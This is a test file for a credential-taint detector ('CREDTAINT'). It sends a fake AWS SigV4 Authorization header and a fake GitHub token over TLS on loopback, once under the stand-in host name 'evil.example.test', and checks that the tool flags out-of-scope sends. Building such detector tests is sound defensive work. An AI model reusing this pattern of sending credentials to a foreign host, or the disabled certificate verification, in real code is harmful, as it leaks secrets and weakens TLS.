// An AWS SigV4 Authorization header, built from the access key id and a
// signature keyed with the secret (a keyed hash computed in the program, so
// its bytes come from the secret), is a credential of its own
// ("authorization") that inherits the scope of the credentials its bytes
// came from (*.amazonaws.com, from scopes.def). Sent over TLS to an AWS
// host (SNI; the server is on loopback with a certificate for that name)
// it is clean; the same header sent to another host is unscoped-network-use
// (high) for each credential it carries, never "no declared scope" (low).
// A bearer header's scope comes from its value's provider prefix.
// SECRET: AKIAE2ESIGV4EXAMPLE7Q
// SECRET: e2eFakeSigV4Secret0123456789abcdefABCDEFGH
// SECRET: ghp_E2eSigV4Bearer0123456789abcdefABCDEF
// RUN: openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -keyout %t.key -out %t.crt -days 1 -subj /CN=sts.us-east-1.amazonaws.com -addext subjectAltName=DNS:sts.us-east-1.amazonaws.com 2> %t.openssl.err
// RUN: %credtaint-cxx -O0 %s -o %t -lssl
// RUN: rm -rf %t.logs
// RUN: env CREDTAINT_OPTIONS=%ctopts AWS_ACCESS_KEY_ID=AKIAE2ESIGV4EXAMPLE7Q AWS_SECRET_ACCESS_KEY=e2eFakeSigV4Secret0123456789abcdefABCDEFGH python3 %S/Inputs/netserve.py --cert %t.crt --key %t.key tls -- %t {tls} > %t.out 2> %t.err
// RUN: FileCheck --implicit-check-not="==CREDTAINT:" %s < %t.err
// RUN: FileCheck --check-prefix=OUT %s < %t.out
// RUN: cat %records | count 3
// RUN: cat %records | FileCheck --check-prefix=JSON --implicit-check-not='"severity":"low"' %s
#include <arpa/inet.h>
#include <cstdint>
#include <cstdio>
#include <cstdlib>
#include <openssl/ssl.h>
#include <string>
#include <sys/socket.h>
#include <unistd.h>

static int port;

/// One TLS connection to the loopback server, named sni, that writes data.
static void sendTo(SSL_CTX *ctx, const char *sni, const std::string &data) {
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(uint16_t(port));
  inet_pton(AF_INET, "127.0.0.1", &to.sin_addr);
  if (connect(fd, reinterpret_cast<sockaddr *>(&to), sizeof to) != 0)
    std::exit(3);
  SSL *ssl = SSL_new(ctx);
  SSL_set_tlsext_host_name(ssl, sni);
  SSL_set_fd(ssl, fd);
  if (SSL_connect(ssl) != 1)
    std::exit(4);
  SSL_write(ssl, data.data(), int(data.size()));
  char reply[8] = {0};
  int n = SSL_read(ssl, reply, sizeof reply - 1);
  std::printf("%s: %s", sni, n > 0 ? reply : "no reply\n");
  SSL_shutdown(ssl);
  SSL_free(ssl);
  close(fd);
}

/// A keyed hash in hex (a stand-in for HMAC-SHA256, computed here so that
/// every output byte comes from the key's bytes).
static std::string keyedHex(const std::string &key, const std::string &msg) {
  static const char digits[] = "0123456789abcdef";
  std::string out;
  for (size_t i = 0; i < 32; ++i) {
    unsigned char b = static_cast<unsigned char>(key[i % key.size()]) ^
                      static_cast<unsigned char>(msg[i % msg.size()]);
    out += digits[b >> 4];
    out += digits[b & 15];
  }
  return out;
}

int main(int argc, char **argv) {
  if (argc < 2)
    return 1;
  port = std::atoi(argv[1]);
  std::string access_key_id = std::getenv("AWS_ACCESS_KEY_ID");
  std::string secret_access_key = std::getenv("AWS_SECRET_ACCESS_KEY");
  const std::string scope = "20261205/us-east-1/sts/aws4_request";
  std::string signature = keyedHex("AWS4" + secret_access_key, scope);
  std::string authorization = "AWS4-HMAC-SHA256 Credential=" + access_key_id +
                              "/" + scope +
                              ", SignedHeaders=host;x-amz-date, Signature=" +
                              signature;
  std::string request = "POST / HTTP/1.1\r\nHost: sts.us-east-1.amazonaws.com\r\n"
                        "Authorization: " + authorization + "\r\n\r\n";
  SSL_CTX *ctx = SSL_CTX_new(TLS_client_method());
  SSL_CTX_set_verify(ctx, SSL_VERIFY_NONE, nullptr);

  // In scope: the header and the credentials in it are for *.amazonaws.com.
  sendTo(ctx, "sts.us-east-1.amazonaws.com", request);

  // Out of scope: every credential in it, at high severity.
  sendTo(ctx, "evil.example.test", request);
// CHECK-DAG: CREDTAINT: unscoped-network-use: token authorization ({{.*}}) reached SSL_write to evil.example.test:{{[0-9]+}} over tls
// CHECK-DAG: CREDTAINT: unscoped-network-use: cloud-credential AWS_SECRET_ACCESS_KEY ({{.*}}) reached SSL_write to evil.example.test:{{[0-9]+}} over tls

  // A bearer header whose token's prefix names its provider (GitHub): its
  // scope comes from that prefix, so an AWS host is outside it.
  std::string bearer = std::string("Bearer ") + "ghp_E2eSigV4Bearer0123456789abcdefABCDEF";
  sendTo(ctx, "sts.us-east-1.amazonaws.com", "Authorization: " + bearer + "\r\n");
// CHECK-DAG: CREDTAINT: unscoped-network-use: token bearer (Bearer ****…, 47 bytes) reached SSL_write to sts.us-east-1.amazonaws.com:{{[0-9]+}} over tls
  SSL_CTX_free(ctx);
  return 0;
}
// OUT: sts.us-east-1.amazonaws.com: ok
// OUT-NEXT: evil.example.test: ok
// OUT-NEXT: sts.us-east-1.amazonaws.com: ok
// JSON-DAG: "rule":"unscoped-network-use","cwe":668,"severity":"high"{{.*}}"name":"authorization",{{.*}}"scope":"*.amazonaws.com,*.amazonaws.com.cn"{{.*}}"host":"evil.example.test"
// JSON-DAG: "rule":"unscoped-network-use","cwe":668,"severity":"high"{{.*}}"name":"AWS_SECRET_ACCESS_KEY",{{.*}}"host":"evil.example.test"
// JSON-DAG: "rule":"unscoped-network-use","cwe":668,"severity":"high"{{.*}}"name":"bearer",{{.*}}"scope":"github.com,{{.*}}"host":"sts.us-east-1.amazonaws.com"
